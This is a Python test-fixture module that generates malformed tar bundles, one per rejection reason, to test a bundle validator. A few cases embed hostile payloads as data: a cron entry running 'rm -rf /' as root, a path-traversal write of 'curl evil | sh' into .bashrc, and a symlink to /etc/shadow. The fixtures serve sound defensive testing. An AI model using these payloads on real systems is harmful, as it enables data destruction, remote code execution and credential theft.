"""Hostile bundles, one (or more) per reason code, built from a valid one. Shared by the
reader tests and the loader/DAG tests."""

from __future__ import annotations

import io
import tarfile
from collections.abc import Callable

import pyarrow as pa
import pyarrow.compute as pc

from tests.bundlekit import assemble, edit_table, refresh_files, tarinfo
from worktape.core.bundle import Limits, Reason

Case = Callable[[dict, dict[str, bytes], bytes], bytes]
CASES: dict[str, tuple[Reason, Case, Limits]] = {}
LOADER_ONLY = {
    Reason.CONFLICT,
    Reason.KEY_MISMATCH,
    Reason.OVERLAPPING_BUNDLE,
    Reason.UNREDACTED_SECRET,
    Reason.DENYLISTED_WINDOW,
    Reason.ERASED_CONTRIBUTOR,
}


DEFAULT_LIMITS = Limits()


def case(reason: Reason, *, name: str | None = None, limits: Limits = DEFAULT_LIMITS):
    def register(fn: Case) -> Case:
        CASES[name or reason.value] = (reason, fn, limits)
        return fn

    return register


def frame_name(members: dict[str, bytes]) -> str:
    return next(n for n in members if n.startswith("screenshots/"))


@case(Reason.NOT_A_TAR)
def _(m, mem, raw):
    return b"this is not a tar archive, just some text\n" * 40


@case(Reason.TRUNCATED)
def _(m, mem, raw):
    return raw[: len(raw) // 2]


@case(Reason.TRUNCATED, name="truncated_empty")
def _(m, mem, raw):
    return b""


@case(Reason.TRUNCATED, name="truncated_at_member_boundary")
def _(m, mem, raw):
    # a complete last member but no end-of-archive blocks: cut right after it
    data = assemble(m, mem)
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        last = tar.getmembers()[-1]
    end = last.offset_data + ((last.size + 511) // 512) * 512
    return data[:end]


@case(Reason.TRAILING_DATA)
def _(m, mem, raw):
    return assemble(m, mem) + b"\x01" * 512


@case(Reason.TOO_LARGE, limits=Limits(max_bytes=4096))
def _(m, mem, raw):
    return raw


@case(Reason.TOO_MANY_MEMBERS, limits=Limits(max_members=3))
def _(m, mem, raw):
    return raw


@case(Reason.ABSOLUTE_PATH)
def _(m, mem, raw):
    mem["/etc/cron.d/evil"] = b"* * * * * root rm -rf /"
    refresh_files(m, mem)
    return assemble(m, mem)


@case(Reason.PARENT_PATH)
def _(m, mem, raw):
    mem["screenshots/../../../home/user/.bashrc"] = b"curl evil | sh"
    refresh_files(m, mem)
    return assemble(m, mem)


@case(Reason.LINK_MEMBER)
def _(m, mem, raw):
    name = frame_name(mem)
    del mem[name]
    return assemble(
        m, mem, extra=[(tarinfo(name, kind=tarfile.SYMTYPE, linkname="/etc/shadow"), b"")]
    )


@case(Reason.LINK_MEMBER, name="hard_link_member")
def _(m, mem, raw):
    name = frame_name(mem)
    del mem[name]
    return assemble(
        m, mem, extra=[(tarinfo(name, kind=tarfile.LNKTYPE, linkname="events.parquet"), b"")]
    )


@case(Reason.SPECIAL_MEMBER)
def _(m, mem, raw):
    return assemble(m, mem, extra=[(tarinfo("screenshots/dev", kind=tarfile.CHRTYPE), b"")])


@case(Reason.SPECIAL_MEMBER, name="fifo_member")
def _(m, mem, raw):
    return assemble(m, mem, extra=[(tarinfo("pipe", kind=tarfile.FIFOTYPE), b"")])


@case(Reason.BAD_MEMBER_NAME)
def _(m, mem, raw):
    mem["screenshots//odd.webp"] = b"x"
    refresh_files(m, mem)
    return assemble(m, mem)


@case(Reason.DUPLICATE_MEMBER)
def _(m, mem, raw):
    return assemble(
        m,
        mem,
        extra=[(tarinfo("events.parquet", len(mem["events.parquet"])), mem["events.parquet"])],
    )


@case(Reason.MISSING_MEMBER)
def _(m, mem, raw):
    del mem[frame_name(mem)]
    return assemble(m, mem)


@case(Reason.UNLISTED_MEMBER)
def _(m, mem, raw):
    mem["notes.txt"] = b"smuggled"
    return assemble(m, mem)


@case(Reason.SIZE_MISMATCH)
def _(m, mem, raw):
    m["files"][-1]["bytes"] += 1
    return assemble(m, mem)


@case(Reason.CHECKSUM_MISMATCH)
def _(m, mem, raw):
    name = frame_name(mem)
    mem[name] = b"X" + mem[name][1:]
    return assemble(m, mem)


@case(Reason.MISSING_MANIFEST)
def _(m, mem, raw):
    return assemble(m, mem, manifest_first=False)


@case(Reason.BAD_JSON)
def _(m, mem, raw):
    return assemble(b'{"format": "worktape.bundle", oops', mem)


@case(Reason.BAD_MANIFEST)
def _(m, mem, raw):
    del m["consent"]
    return assemble(m, mem)


@case(Reason.WRONG_FORMAT)
def _(m, mem, raw):
    m["format"] = "someone.elses.format"
    return assemble(m, mem)


@case(Reason.UNSUPPORTED_VERSION)
def _(m, mem, raw):
    m["format_version"] = "2.0"
    return assemble(m, mem)


@case(Reason.COUNT_MISMATCH)
def _(m, mem, raw):
    m["counts"]["events"] += 1
    return assemble(m, mem)


@case(Reason.BAD_PARQUET)
def _(m, mem, raw):
    mem["events.parquet"] = b"PAR1 but not really parquet"
    refresh_files(m, mem)
    return assemble(m, mem)


@case(Reason.BAD_SCHEMA)
def _(m, mem, raw):
    edit_table(mem, "events.parquet", lambda t: t.drop_columns(["kind"]))
    refresh_files(m, mem)
    return assemble(m, mem)


@case(Reason.BAD_SCHEMA, name="bad_schema_wrong_type")
def _(m, mem, raw):
    edit_table(
        mem,
        "events.parquet",
        lambda t: t.set_column(t.schema.get_field_index("x"), "x", pa.array(["left"] * t.num_rows)),
    )
    refresh_files(m, mem)
    return assemble(m, mem)


@case(Reason.SEQ_GAP)
def _(m, mem, raw):
    edit_table(
        mem,
        "events.parquet",
        lambda t: t.set_column(
            0, "seq", pa.array([i + (i >= 3) for i in range(t.num_rows)], pa.int64())
        ),
    )
    refresh_files(m, mem)
    return assemble(m, mem)


@case(Reason.TS_OUT_OF_WINDOW)
def _(m, mem, raw):
    def shift(t: pa.Table) -> pa.Table:
        ts = t["ts"].to_pylist()
        ts[-1] = ts[-1].replace(hour=ts[-1].hour + 2)
        return t.set_column(1, "ts", pa.array(ts, t.schema.field("ts").type))

    edit_table(mem, "events.parquet", shift)
    refresh_files(m, mem)
    return assemble(m, mem)


@case(Reason.UNKNOWN_KIND)
def _(m, mem, raw):
    edit_table(
        mem,
        "events.parquet",
        lambda t: t.set_column(2, "kind", pc.replace_substring(t["kind"], "key_down", "teleport")),
    )
    refresh_files(m, mem)
    return assemble(m, mem)


@case(Reason.DANGLING_SCREENSHOT)
def _(m, mem, raw):
    def dangle(t: pa.Table) -> pa.Table:
        sids = t["screenshot_id"].to_pylist()
        sids[sids.index(next(s for s in sids if s))] = "nonexistent-frame"
        return t.set_column(
            t.schema.get_field_index("screenshot_id"), "screenshot_id", pa.array(sids, pa.string())
        )

    edit_table(mem, "events.parquet", dangle)
    refresh_files(m, mem)
    return assemble(m, mem)


@case(Reason.DUPLICATE_SCREENSHOT)
def _(m, mem, raw):
    edit_table(mem, "screenshots.parquet", lambda t: pa.concat_tables([t, t.slice(0, 1)]))
    m["counts"]["screenshots"] += 1
    refresh_files(m, mem)
    return assemble(m, mem)


@case(Reason.UNSCOPED_ID)
def _(m, mem, raw):
    # what was seen in the field: a bundle of its own id carrying another bundle's
    # screenshot ids (a newer minor, otherwise valid)
    m["bundle_id"] = "bcopycat0001"
    m["format_version"] = "1.9"
    return assemble(m, mem)


@case(Reason.TS_BACKWARDS)
def _(m, mem, raw):
    def swap(t: pa.Table) -> pa.Table:
        ts = t["ts"].to_pylist()
        ts[1], ts[2] = ts[2], ts[1]
        return t.set_column(1, "ts", pa.array(ts, t.schema.field("ts").type))

    edit_table(mem, "events.parquet", swap)
    refresh_files(m, mem)
    return assemble(m, mem)


@case(Reason.OFF_SCREEN)
def _(m, mem, raw):
    def wander(t: pa.Table) -> pa.Table:
        xs = t["x"].to_pylist()
        xs[next(i for i, x in enumerate(xs) if x is not None)] = 1920 * 3
        return t.set_column(t.schema.get_field_index("x"), "x", pa.array(xs, pa.int32()))

    edit_table(mem, "events.parquet", wander)
    refresh_files(m, mem)
    return assemble(m, mem)
